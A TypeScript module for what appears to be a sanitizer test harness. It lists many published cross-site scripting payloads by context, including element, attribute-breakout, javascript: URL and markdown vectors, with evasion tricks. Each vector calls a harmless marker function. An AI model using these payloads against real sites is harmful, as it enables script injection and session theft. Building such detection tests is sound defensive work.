/**
 * Text that runs as a script if it becomes markup: the vectors of published collections, by context. Each
 * calls `__xss("m<n>m")`, so that the detector knows which one ran and whether the page shows it.
 */

type Vector = (call: string) => string;

/** In HTML text. */
const ELEMENTS: readonly Vector[] = [
  (x) => `<script>${x}</script>`,
  (x) => `<ScRiPt>${x}</sCrIpT>`,
  (x) => `<script\x20type="text/javascript">${x}</script>`,
  (x) => `<script\x0c>${x}</script>`,
  (x) => `<script/x>${x}</script>`,
  (x) => `<<script>${x}//<</script>`,
  (x) => `<scr<script>ipt>${x}</scr</script>ipt>`,
  (x) => `</script><script>${x}</script>`,
  (x) => `<!--><script>${x}</script>-->`,
  (x) => `--><script>${x}</script>`,
  (x) => `--!><script>${x}</script>`,
  (x) => `]]><script>${x}</script>`,
  (x) => `<script type=module>${x}</script>`,
  (x) => `<script src="data:text/javascript,${encodeURIComponent(x)}"></script>`,
  (x) => `<svg><script>${x}</script></svg>`,
  (x) => `<svg><script href="data:text/javascript,${encodeURIComponent(x)}" /></svg>`,
  (x) => `<img src=x onerror=${quoted(x)}>`,
  (x) => `<img src=x onerror="${x.replaceAll('"', "'")}">`,
  (x) => `<img/src=x/onerror=${quoted(x)}>`,
  (x) => `<img src=x:x onerror\x09=\x0a${quoted(x)}>`,
  (x) => `<image src=x onerror=${quoted(x)}>`,
  (x) => `<img src="x\`\`onerror=${quoted(x)}" onerror=${quoted(x)}>`,
  (x) => `<svg onload=${quoted(x)}>`,
  (x) => `<svg/onload=${quoted(x)}>`,
  (x) => `<svg><animate onbegin=${quoted(x)} attributeName=x dur=1s>`,
  (x) => `<svg><a xlink:href="javascript:${call(x)}"><text y=20>m</text></a></svg>`,
  (x) => `<svg><set attributeName=onmouseover to=${quoted(x)}></svg>`,
  (x) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/><script>${x}</script></svg>`,
  (x) => `<svg><foreignObject><body onload=${quoted(x)}></foreignObject></svg>`,
  (x) => `<math><mtext><script>${x}</script></mtext></math>`,
  (x) => `<math><a xlink:href="javascript:${call(x)}">m</a></math>`,
  (x) => `<math><mglyph><style><!--</style><img title="--><img src=1 onerror=${quoted(x)}>">`,
  (x) => `<noscript><p title="</noscript><img src=x onerror=${quoted(x)}>">`,
  (x) => `<noembed><img title="</noembed><img src=x onerror=${quoted(x)}>"></noembed>`,
  (x) => `<body onload=${quoted(x)}>`,
  (x) => `<body onpageshow=${quoted(x)}>`,
  (x) => `<iframe src="javascript:${call(x)}"></iframe>`,
  (x) => `<iframe srcdoc="<script>parent.${call(x)}</script>"></iframe>`,
  (x) => `<iframe onload=${quoted(x)}></iframe>`,
  (x) => `<object data="javascript:${call(x)}"></object>`,
  (x) => `<object data="data:text/html,<script>${call(x)}</script>"></object>`,
  (x) => `<embed src="javascript:${call(x)}">`,
  (x) => `<video src=x onerror=${quoted(x)}></video>`,
  (x) => `<video><source onerror=${quoted(x)}></video>`,
  (x) => `<audio src=x onerror=${quoted(x)}></audio>`,
  (x) => `<input autofocus onfocus=${quoted(x)}>`,
  (x) => `<select autofocus onfocus=${quoted(x)}></select>`,
  (x) => `<textarea autofocus onfocus=${quoted(x)}></textarea>`,
  (x) => `<button autofocus onfocus=${quoted(x)}>m</button>`,
  (x) => `<a autofocus onfocus=${quoted(x)} href=#>m</a>`,
  (x) => `<div contenteditable autofocus onfocus=${quoted(x)}>m</div>`,
  (x) => `<details open ontoggle=${quoted(x)}>m</details>`,
  (x) => `<marquee onstart=${quoted(x)}>m</marquee>`,
  (x) => `<style onload=${quoted(x)}></style>`,
  (x) => `<style>@import "data:text/css,*{}";</style><style onload=${quoted(x)}>`,
  (x) => `<link rel=stylesheet href="data:text/css,*{}" onload=${quoted(x)}>`,
  (x) => `<meta http-equiv=refresh content="0;url=javascript:${call(x)}">`,
  (x) => `<base href="https://evil.example/"><img src=x onerror=${quoted(x)}>`,
  (x) =>
    `<form action="javascript:${call(x)}"><button autofocus onfocus=${quoted(x)}>m</button></form>`,
  (x) => `<isindex type=image src=1 onerror=${quoted(x)}>`,
  (x) => `<template><script>${x}</script></template><img src=x onerror=${quoted(x)}>`,
  (x) => `<dialog open onfocus=${quoted(x)} autofocus>m</dialog>`,
  (x) =>
    `<xss style="animation-name:x" onanimationstart=${quoted(x)}></xss><img src=x onerror=${
      quoted(x)
    }>`,
  (x) => `<p popover id=p onbeforetoggle=${quoted(x)}></p><img src=x onerror=${quoted(x)}>`,
  (x) => `<table background="javascript:${call(x)}"><tr><td><img src=x onerror=${quoted(x)}>`,
  (x) => `<x onclick=${quoted(x)} tabindex=1 autofocus onfocus=${quoted(x)}>m</x>`,
  (x) => `<img src=x onerror=${quoted(x)}//`,
  (x) => `<img src='1' onerror='${x.replaceAll("'", '"')}' <`,
  (x) => `&lt;script&gt;${x}&lt;/script&gt;<img src=x onerror=${quoted(x)}>`,
  (x) => `\u00bcscript\u00be${x}\u00bc/script\u00be<svg onload=${quoted(x)}>`,
  (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-<svg/onload=${quoted(x)}>`,
  (x) => `\0<scr\0ipt>${x}</scr\0ipt><img src=x onerror=${quoted(x)}>`,
];

/** Out of an attribute, a title, a textarea, a script's data. */
const BREAKOUTS: readonly Vector[] = [
  (x) => `"><script>${x}</script>`,
  (x) => `'><script>${x}</script>`,
  (x) => `" autofocus onfocus=${quoted(x)} x="`,
  (x) => `' autofocus onfocus=${quoted(x)} x='`,
  (x) => `\` autofocus onfocus=${quoted(x)} x=\``,
  (x) => `"><img src=x onerror=${quoted(x)}>`,
  (x) => `'"><svg/onload=${quoted(x)}>`,
  (x) => `</title><script>${x}</script>`,
  (x) => `</textarea><script>${x}</script>`,
  (x) => `</style><script>${x}</script>`,
  (x) => `</noscript><script>${x}</script>`,
  (x) => `</template><script>${x}</script>`,
  (x) => `</select><img src=x onerror=${quoted(x)}>`,
  (x) => `</pre></code></li></ol></td></table></main><script>${x}</script>`,
  (x) => `</option></datalist><svg onload=${quoted(x)}>`,
  (x) => `";${x};//`,
  (x) => `';${x};//`,
  (x) => `\\";${x};//`,
  (x) => `\\u003cscript\\u003e${x}\\u003c/script\\u003e<svg onload=${quoted(x)}>`,
  (x) => `\u2028${x}\u2029//</script><script>${x}</script>`,
  (x) => "`;${" + x + "}`",
  (x) => `{{constructor.constructor(${JSON.stringify(x)})()}}<img src=x onerror=${quoted(x)}>`,
];

/** As an address. */
const ADDRESSES: readonly Vector[] = [
  (x) => `javascript:${x}`,
  (x) => `JaVaScRiPt:${x}`,
  (x) => `java\tscript:${x}`,
  (x) => `java\nscript:${x}`,
  (x) => `\u0001javascript:${x}`,
  (x) => ` javascript:${x}`,
  (x) => `javascript&colon;${x}`,
  (x) => `&#106;avascript:${x}`,
  (x) => `&#x6A&#x61vascript:${x}`,
  (x) => `javascript://evil.example/%0a${x}`,
  (x) => `data:text/html,<script>${x}</script>`,
  (x) => `vbscript:${x}`,
  (x) => `https://evil.example/"onmouseover="${call(x)}`,
  (x) => `https://evil.example/'><script>${x}</script>`,
  (x) => `https://user:pass@evil.example/<svg onload=${quoted(x)}>`,
  (x) => `//evil.example/<script>${x}</script>`,
];

/** As markdown. */
const MARKDOWN: readonly Vector[] = [
  (x) => `[click](javascript:${call(x)})`,
  (x) => `[click](JaVaScRiPt:${call(x)})`,
  (x) => `[click](javascript&colon;${call(x)})`,
  (x) => `[click](&#x6A;avascript:${call(x)})`,
  (x) => `[click](java&#10;script:${call(x)})`,
  (x) => `[click](<javascript:${x}>)`,
  (x) => `[click](data:text/html;base64,${btoa(`<script>${x}</script>`)} "${call(x)}")`,
  (x) => `[click](vbscript:${call(x)})`,
  (x) => `![image](javascript:${call(x)})`,
  (x) => `![image](x "onerror=${call(x)}")`,
  (x) => `![x](https://evil.example/p.png"onerror="${call(x)})`,
  (x) => `<javascript:${x}>`,
  (x) => `[ref]\n\n[ref]: javascript:${call(x)}`,
  (x) => `[click](https://evil.example "><script>${x}</script>")`,
  (x) => `\`\`\`"><script>${x}</script>\ncode\n\`\`\``,
  (x) => `\`<script>${x}</script>\``,
  (x) =>
    `# <script>${x}</script>\n\n| <img src=x onerror=${quoted(x)}> |\n|:-:|\n| <svg onload=${
      quoted(x)
    }> |`,
  (x) => `[a]: <javascript:${call(x)}> "x"\n[a]`,
  (x) => `[![x](javascript:${call(x)})](javascript:${call(x)})`,
  (x) => `<details open ontoggle=${quoted(x)}>\n\n**m**\n\n</details>`,
];

/** A payload, and how the detector and the page know it. */
export interface Payload {
  readonly mark: string;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = [
  ...ELEMENTS,
  ...BREAKOUTS,
  ...ADDRESSES,
  ...MARKDOWN,
].map((make, n) => {
  const mark = `m${n}m`;
  return { mark, text: make(`__xss('${mark}')`) };
});

/** The call without characters that would end a link or an unquoted attribute. */
function call(x: string): string {
  return x.replaceAll("'", "`");
}

/** The call as an unquoted attribute's value. */
function quoted(x: string): string {
  return call(x);
}
